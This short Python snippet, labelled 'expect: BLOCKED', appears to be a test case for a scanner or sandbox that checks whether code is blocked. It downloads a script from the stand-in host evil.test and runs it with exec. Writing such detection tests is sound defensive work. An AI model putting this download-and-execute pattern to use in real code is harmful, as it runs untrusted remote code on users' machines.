# expect: BLOCKED
import requests
payload = requests.get("http://evil.test/p.py")
namespace = {}
exec(compile(payload.text, "p", "exec"), namespace)
